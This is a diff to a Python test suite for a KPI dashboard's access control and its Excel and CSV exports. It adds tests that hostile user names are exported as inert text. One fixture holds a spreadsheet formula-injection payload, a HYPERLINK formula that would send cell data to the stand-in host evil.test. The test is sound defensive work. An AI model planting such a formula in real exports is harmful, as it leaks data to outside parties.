@@ -39,13 +39,13 @@ def development_section(client, url):
 
 
 @pytest.mark.parametrize("user", USERS)
-@pytest.mark.parametrize("url", ["/kpis", "/kpis.xlsx"])
+@pytest.mark.parametrize("url", ["/kpis", "/kpis.xlsx", "/kpis.csv"])
 def test_only_the_departments_leaders_and_admins_see_the_indicators(client_for, user, url):
     response = client_for(user).get(url)
     assert response.status_code == (200 if user in READERS else 403)
 
 
-@pytest.mark.parametrize("url", ["/kpis", "/kpis.xlsx"])
+@pytest.mark.parametrize("url", ["/kpis", "/kpis.xlsx", "/kpis.csv"])
 def test_anonymous_is_sent_to_sign_in(client_for, url):
     assert client_for(None).get(url).status_code in (302, 401)
 
@@ -98,6 +98,49 @@ def test_excel_export_has_a_sheet_per_area(client_for, registered, lang, sheet, 
     at = rows.index(header_row)
     assert rows[at + 1][:2] == ["senior_manager", 1]
     assert rows[at + 2][:2] == [total, 1]
+
+
+FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"click")'
+BELL = "bell\x07\x1bname"  # control characters a workbook cannot hold
+
+
+@pytest.fixture
+def hostile_names(env):
+    """Two senior managers with hostile names each registered a prospect (by=user groups)."""
+    from engine.accounts import create_user
+
+    env.run(lambda s, kf, u: kf.deploy(s, Bundle.from_folder(PROCESSES)))
+    for name in (FORMULA, BELL):
+        env.run(lambda s, kf, u, name=name: create_user(s, kf.clock, name, ["senior_manager"]))
+        instance_id = env.start("key_account_development", by=name, customer=None)
+        env.complete(env.open_task(instance_id).id, name, PROSPECT)
+
+
+def test_excel_export_writes_names_as_text_never_as_formulas(client_for, hostile_names):
+    response = client_for("dept_head").get("/kpis.xlsx?from=2026-03-01&to=2026-03-31",
+                                           headers={"Accept-Language": "en"})
+    assert response.status_code == 200  # a control character in a name made this a 500
+    cells = {cell.value: cell for row in load_workbook(BytesIO(response.data))["Development"]
+             for cell in row if isinstance(cell.value, str)}
+    formula = cells[FORMULA]
+    assert formula.data_type == "s" and formula.quotePrefix  # text, not a live formula
+    assert "bellname" in cells and cells["bellname"].data_type == "s"
+    assert not any(cell.data_type == "f" for cell in cells.values())
+
+
+def test_csv_export_neutralises_formula_like_cells(client_for, hostile_names):
+    import csv
+
+    response = client_for("dept_head").get("/kpis.csv?from=2026-03-01&to=2026-03-31",
+                                           headers={"Accept-Language": "en"})
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    assert "kpis-2026-03-01-2026-03-31.csv" in response.headers["Content-Disposition"]
+    text = response.data.decode("utf-8")
+    assert text.startswith("\ufeff")
+    rows = list(csv.reader(text[1:].splitlines()))
+    names = [row[0] for row in rows if row]
+    assert "'" + FORMULA in names and FORMULA not in names and "bellname" in names
+    assert "Development – Development" in names
 
 
 def test_api_kpis_carries_the_new_areas_as_documented(client_for, registered):
